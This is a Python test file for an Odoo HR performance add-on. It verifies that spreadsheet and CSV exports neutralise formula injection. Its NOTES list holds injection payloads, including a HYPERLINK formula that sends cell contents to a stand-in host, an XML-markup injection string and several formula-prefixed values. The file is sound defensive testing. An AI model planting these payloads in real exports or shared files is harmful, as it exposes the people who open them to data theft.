import csv
import io
import json
import re
from xml.sax.saxutils import escape
from zipfile import ZipFile

from odoo import http
from odoo.tests import tagged

from .common import AsnHttpCase

NOTES = [
    '=HYPERLINK("http://x.example/?"&A1,"Klik")',
    "{=1+1}",
    "@SUM(1)",
    "+1",
    "-1",
    "\t=1",
    "http://x.example/",
    # A library may take this for ready-made markup and copy it into the file.
    "<r><t>A</t></r></si><si><t>B</t></si><si><r><t>C</t></r>",
    "  =1",
    "-2+3",
    "Pelayanan rawat jalan",
]
MARKUP = NOTES[7]


@tagged("post_install", "-at_install")
class TestAsnExport(AsnHttpCase):
    """What an employee types is no formula on the machine of whoever exports it."""

    @classmethod
    def setUpClass(cls):
        super().setUpClass()
        cls._begin_half()
        cls.hr_user.group_ids += cls.env.ref("base.group_allow_export")
        for note in NOTES:
            cls._log(cls.plan.result_ids.indicator_ids[0], 1, note=note)

    def _export(self, kind, **params):
        self.authenticate("asn_hr", "asn_hr")
        data = {
            "model": "asn.realisation",
            "fields": [
                {"name": "date", "label": "Tanggal", "type": "date"},
                {"name": "note", "label": "=Catatan", "type": "text"},
                {"name": "quantity", "label": "Jumlah", "type": "float"},
            ],
            "ids": False,
            "domain": [["skp_id", "=", self.plan.id]],
            "import_compat": False,
            **params,
        }
        sent = {"data": json.dumps(data), "csrf_token": http.Request.csrf_token(self)}
        answer = self.url_open(f"/web/export/{kind}", data=sent)
        self.assertEqual(answer.status_code, 200)
        return answer.content

    def _read_workbook(self, content):
        """The XML of the sheet, the texts in it, and the names of the parts of the workbook."""
        archive = ZipFile(io.BytesIO(content))
        sheet = archive.read("xl/worksheets/sheet1.xml").decode()
        texts = archive.read("xl/sharedStrings.xml").decode()
        self.assertNotIn("<r>", texts)
        found = re.findall(r"<t(?: [^>]*)?>([^<]*)</t>", texts)
        return sheet, found, archive.namelist()

    def _check_workbook(self, content):
        sheet, texts, names = self._read_workbook(content)
        self.assertNotIn("<f>", sheet)
        self.assertNotIn("<f ", sheet)
        self.assertNotIn("<hyperlink", sheet)
        self.assertNotIn("xl/worksheets/_rels/sheet1.xml.rels", names)
        for text in ("{=1+1}", "@SUM(1)", "+1", "-1", "http://x.example/", "=Catatan"):
            self.assertIn(text, texts)
        self.assertIn('=HYPERLINK("http://x.example/?"&amp;A1,"Klik")', texts)
        self.assertIn(escape(MARKUP), [text.strip() for text in texts])

    def test_cells_of_a_workbook_are_texts(self):
        self._check_workbook(self._export("xlsx"))

    def test_cells_of_a_grouped_workbook_are_texts(self):
        self._check_workbook(self._export("xlsx", groupby=["note"]))

    def test_numbers_and_days_stay_what_they_are(self):
        sheet, _texts, _names = self._read_workbook(self._export("xlsx"))
        for column, value in (("A", r"\d{5}"), ("C", "1")):
            found = re.findall(rf'<c r="{column}\d+" s="\d+"><v>{value}</v></c>', sheet)
            self.assertEqual(len(found), len(NOTES), column)

    def test_name_of_a_unit_is_a_text(self):  # threat: J01
        """Whoever names a unit writes no formula into the lists of others."""
        columns = [
            {"name": "unit_id", "label": "Bagian", "type": "many2one"},
            {"name": "unit_id/name", "label": "Nama", "type": "char"},
        ]
        for name in NOTES:
            self.clinic.name = name
            asked = {"model": "asn.skp", "fields": columns, "domain": [["id", "=", self.plan.id]]}
            with self.subTest(name):
                for groups in ([], ["unit_id"]):
                    content = self._export("xlsx", groupby=groups, **asked)
                    sheet, texts, _names = self._read_workbook(content)
                    self.assertNotRegex(sheet, r"<f[ >]|<hyperlink")
                    self.assertIn(escape(name.strip()), " ".join(texts))
                _titles, row = csv.reader(io.StringIO(self._export("csv", **asked).decode()))
                self.assertEqual(len(row), 2)
                for cell in row:
                    self.assertNotRegex(cell, r"^ *[=+\-@\t\r]")
                    self.assertIn(name.strip(), cell)

    def test_columns_of_a_pivot_table_are_texts(self):  # threat: J01
        """The client sends the table with the names of the units in it, as a file."""
        self.authenticate("asn_hr", "asn_hr")
        for name in (*NOTES, "internal:Recap!A1"):
            head = {"title": name, "width": 1, "height": 1, "is_bold": False}
            table = {
                "model": "asn.skp",
                "title": "Kelengkapan: Rencana dan Realisasi Kinerja",
                "measure_count": 1,
                "col_group_headers": [[{**head, "title": "Total"}], [head]],
                "measure_headers": [{**head, "title": "Jumlah"}],
                "rows": [{"title": name, "indent": 1, "values": [{"value": 1}]}],
            }
            with self.subTest(name):
                answer = self.url_open(
                    "/web/pivot/export_xlsx",
                    data={"csrf_token": http.Request.csrf_token(self)},
                    files={"data": ("blob", json.dumps(table), "application/json")},
                )
                self.assertEqual(answer.status_code, 200)
                sheet, texts, _names = self._read_workbook(answer.content)
                self.assertNotRegex(sheet, r"<f[ >]|<hyperlink")
                self.assertIn(escape(name.strip()), " ".join(texts))

    def test_no_cell_of_a_csv_begins_as_a_formula(self):
        rows = list(csv.reader(io.StringIO(self._export("csv").decode())))
        notes = [row[1] for row in rows[1:]]
        self.assertEqual(len(notes), len(NOTES))
        for note in notes:
            self.assertNotRegex(note, r"^ *[=+\-@\t\r]")
        self.assertIn("'@SUM(1)", notes)
        self.assertIn("'+1", notes)
        self.assertIn("Pelayanan rawat jalan", notes)
